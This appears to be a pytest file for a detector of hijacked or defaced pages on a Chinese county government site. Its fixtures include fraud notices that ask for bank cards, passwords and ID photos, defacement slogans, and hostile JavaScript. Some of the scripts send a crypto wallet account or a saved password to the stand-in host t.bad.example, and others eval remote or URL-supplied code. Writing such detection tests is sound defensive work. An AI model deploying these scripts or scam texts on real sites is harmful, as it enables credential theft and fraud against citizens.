"""Ways by which people are called away from an office's desks, further scrawls, and the rarer ways of loading."""

import pytest

from tests.pages.imitations.judging import shot, violations
from tests.pages.test_relatives import PAGE, assert_not_accused, assert_told, put, script

_BAD = "https://t.bad.example/"
_NOTES = """领取春耕补贴请先缴纳保证金200元，收款微信：nongbu8866
国家乡村振兴局发放个人创业扶持金5万元，联系客服QQ：2885123321办理
教育局通知：学生助学金发放，请加QQ群 655443322 由老师指导操作ATM机
县政府办公室诚招网络兼职信息员，日薪300-800元，加微信wlxx2025
干部提拔内部渠道，五十万可安排副科，联系微信 zzb_9988
代办低保、残疾证，成功收费，联系 QQ 88997766
出售内部中考试题，联系电报 @zk2025
高价收购个人银行卡、电话卡，日租金200，联系QQ 5566778
专业代理政务网站发稿、删帖，QQ 998877
农村合作医疗缴费可微信转账给村医王大夫 wxid_8899aa 代缴
公积金一次性全额提取，无需材料，专人代办，电话17733221100
住房补贴内部认购，县委家属院剩余12套，联系李科长13700001111
职称证书代评，包过，电话18600001111
养老投资项目，一次投入5万，每月返利3000，咨询热线 4009981234
政府采购内定供应商报名，缴纳入围保证金5000元至支付宝 13900003333
全县燃气安全检查，请居民扫码预付检修费50元
社保卡升级换发第三代，请扫码缴纳工本费25元，否则停用
您的医保电子凭证已过期，请扫描下方二维码重新认证
2026年高龄津贴开始发放，请扫码填写姓名、身份证号、银行卡号及密码
拆迁补偿款发放登记，请上传身份证正反面、银行卡照片至邮箱 cqbc2026@163.com
疫情隔离补偿金每人3000元，登录 www.glbc-sl.top 填写银行卡领取
个人所得税退税提醒：您有1860元退税待领取，请登录 http://gs-ts.vip 输入银行卡信息
公安局协查通告：您的身份信息被冒用，涉及一起特大诈骗案，请立即添加办案民警QQ 998877665做笔录"""
CALLED = {
    **{note[:20]: put(f"<div><p>{note}</p></div>") for note in _NOTES.splitlines()},
    "a present behind a link": put(f"<div>县长直播间送福利，下载APP观看即送手机 <a href='{_BAD}'>下载观看</a></div>"),
    "a summons behind a link": put(f"<div>您有一张法院传票未领取 <a href='{_BAD}1.exe'>查看传票</a></div>"),
    "a fine behind a link": put(f"<div>交警提醒：您有一条违章未处理 <a href='{_BAD}'>{_BAD}</a></div>"),
    "interest behind a link": put(f"<div>理财平台“惠民宝”，年化15%，随存随取 <a href='{_BAD}'>注册</a></div>"),
}
_SCRAWLS = """县政府官员全是废物
无能政府
县委大院藏污纳垢
黑社会保护伞就是公安局长李强
抗议！抗议！抗议！
民不聊生 官逼民反
西藏要自由
Hello admin, your website is vulnerable
Security is low. Patch your system!
pwned :)
本站数据库已被打包出售 联系 t.me/dbsell"""
SCRAWLED = {text: put(f"<ul><li><a href='/a/3.html'>{text}</a></li></ul>") for text in _SCRAWLS.splitlines()}
AT_ONCE = {
    "a link pressed by its name": put(f"<a id=z href='{_BAD}'></a><script>z.click()</script>"),
    "a form sent by its name": put(f"<form id=z action='{_BAD}'></form><script>z.submit()</script>"),
    "a press that is made": put(
        f"<a id=z href='{_BAD}'></a><script>document.getElementById('z').dispatchEvent(new Event('click'))</script>"
    ),
    "a second list of words": PAGE.replace(
        "</head>", "<meta name=keywords content=云山县><meta name=keywords content='开云体育,百家乐'></head>"
    ),
    "a program of the telephone's": put("<iframe src='alipays://platformapi/startapp?appId=1'></iframe>"),
    "a number abroad": put("<a href='tel:00447012345678'>政务服务热线12345</a>"),
    "a stranger's form for a telephone": put(
        f"<form action='{_BAD}'><input placeholder=手机号><input placeholder=验证码><button>登录</button></form>"
    ),
}
LATER = {
    "a picture's other source": "<picture><source srcset='https://t.bad.example/a.webp'><img src=/b.jpg></picture>",
    "a picture's other sizes": "<img src=/b.jpg srcset='https://t.bad.example/a.jpg 2x'>",
    "a ground": "<table background='https://t.bad.example/a.jpg'><tr><td>x</td></tr></table>",
    "a ground by a sheet": "<style>.banner{background:url(https://t.bad.example/a.jpg)}</style>",
    "a button": "<input type=image src='https://t.bad.example/a.jpg'>",
    "a sound": "<audio autoplay src='https://t.bad.example/a.mp3'></audio>",
    "a drawing": "<svg><image href='https://t.bad.example/a.png' /></svg>",
    "a tag for programs": "<meta property='al:web:url' content='https://t.bad.example/'>",
    "a permission": "<meta http-equiv=Content-Security-Policy content='script-src https://t.bad.example'>",
    "a page upside down": "<style>html{transform:rotate(180deg)}</style>",
}
"""What nobody can say of at first sight."""
_HONEST = """县人社局线上招聘会，求职者可添加工作人员微信 ysrcjob2026 入群了解岗位
零工市场招工：装卸工日薪200元，联系电话 13870001234（刘师傅）
家政服务培训班招生，免费培训并发放补贴，报名微信 yspx2026 电话 0795-6120001
云山脐橙开园啦！5元/斤，果农老王 微信 wang888x 助农热线 13800001111
小微企业减税降费政策咨询QQ群：123456789
公积金业务在线客服QQ：800056789
网站技术支持QQ：2880011223
养老保险待遇资格认证：请扫码登录“赣服通”进行人脸认证，逾期将暂停发放
首套房契税补贴申领：扫码填写申请表，上传身份证、银行卡照片，咨询12345
育儿补贴申领开始啦！微信搜索“育儿补贴”小程序，填写身份证、银行卡号即可
退役士兵由政府安排工作的公告 联系电话 13870001234
公车拍卖公告：保证金2万元，缴至云山县公共资源交易中心专户
农商银行“惠农贷”，随借随还，客户经理 张经理 13870001234
社区民警微信：shequ110ys，有事您说话
网格员联系方式：李四 13870002222 微信同号
悬赏通告：提供线索奖励5万元，联系民警 13870001234
反诈提醒：刷单返利都是诈骗，不听不信不转账
如何辨别冒充公检法诈骗：凡说您涉嫌洗钱的都是诈骗
消费券发放：登录云闪付APP领取满100减30消费券
抗日战争胜利80周年：打倒日本帝国主义
脑瘫儿童救助项目 脑残疾人康复
黑恶势力“保护伞”举报方式
关于“抗议某某工程扰民”的来信答复
解体老旧车辆报废补贴
管理员登录
禽兽不如？警方通报虐童案
Hong Kong investors visit Yunshan"""
HONEST = {
    **{note[:20]: put(f"<div class=notice><p>{note}</p></div>") for note in _HONEST.splitlines()},
    "a shop of the county's": put("<div>“云山优品”电商平台上线 <a href='http://www.ysyoupin.com/'>进入商城</a></div>"),
    "a trip": put("<div>云山旅游景区门票预订 <a href='http://www.yslypw.com/'>立即预订</a></div>"),
    "a number as it is shown": put("<a href='tel:+867956126655'>0795-6126655</a>"),
    "a press on an own link": put("<a id=z href='/a/1.html'></a><script>z.click()</script>"),
    "a ground of its own": put("<style>.banner{background:url(/i/b.jpg)}body.open{pointer-events:none}</style>"),
    "a share to friends": script(
        "document.getElementById('s').onclick=function(){navigator.share({url:location.href})}"
    ),
}


@pytest.mark.parametrize("page", [*CALLED.values(), *SCRAWLED.values(), *AT_ONCE.values()])
def test_it_is_told_at_first_sight_and_against_the_baseline(page: str) -> None:
    assert_told(page)


@pytest.mark.parametrize("html", LATER.values(), ids=LATER)
def test_what_loads_or_shows_from_elsewhere_is_told_against_the_baseline(html: str) -> None:
    assert violations(put(html), shot(PAGE))
    assert violations(put(html), shot(put(html))) == []


@pytest.mark.parametrize("page", HONEST.values(), ids=HONEST)
def test_an_honest_page_of_the_same_shape_is_not_accused(page: str) -> None:
    assert_not_accused(page)


BY_SCRIPTS = {
    "an address of fields": script("var o={p:'https://',h:'t.bad.example'};location.href=o.p+o.h"),
    "a host with a name": script("var h='t.bad.example';location.href='//'+h"),
    "an address of a row": script("const [x,y]=['https://t.bad','example'];location=x+'.'+y"),
    "a window without its owner": script(f"open('{_BAD}')"),
    "an answer that is run": script(f"$.get('{_BAD}',function(d){{eval(d)}})"),
    "an answer that is a program": script(f"$.ajax({{url:'{_BAD}',dataType:'script'}})"),
    "a message that is run": script("addEventListener('message',e=>eval(e.data))"),
    "a question that is run": script("eval(new URLSearchParams(location.search).get('c'))"),
    "a purse": script(f"ethereum.request({{method:'eth_requestAccounts'}}).then(a=>fetch('{_BAD}'+a))"),
    "a password that is kept": script(
        f"navigator.credentials.get({{password:true}}).then(c=>fetch('{_BAD}'+c.password))"
    ),
}
_MALLS = "<a href='https://a.mall.example/'>万达商贸</a><a href='https://b.mall.example/'>华美建材</a>"
HONEST_SCRIPTS = {
    "an own address of fields": script("var o={p:'http://',h:'www.yunshan.gov.cn'};location.href=o.p+o.h+'/m/'"),
    "an own page of parts": script("var d='/m/',n='index.html';location.href=d+n"),
    "a press that opens": put(f"<a onclick=\"open('{_BAD}')\">某某建材</a>").replace(_BAD, "/a/1.html"),
    "data that is asked for": script("$.get('/d.json',function(d){$('#n').text(d.n)})"),
    "a message that is read": script("addEventListener('message',e=>{if(e.data.h)f.height=e.data.h})"),
}


@pytest.mark.parametrize("page", BY_SCRIPTS.values(), ids=BY_SCRIPTS)
def test_a_script_that_puts_together_or_runs_is_told(page: str) -> None:
    assert_told(page)


@pytest.mark.parametrize("page", HONEST_SCRIPTS.values(), ids=HONEST_SCRIPTS)
def test_an_honest_script_of_the_same_shape_is_not_accused(page: str) -> None:
    assert_not_accused(page)


@pytest.mark.parametrize("tag", ["noframes", "noembed", "textarea", "xmp", "template"])
def test_links_in_what_is_not_shown_are_told_against_the_baseline(tag: str) -> None:
    assert violations(put(f"<{tag}>{_MALLS}</{tag}>"), shot(PAGE))
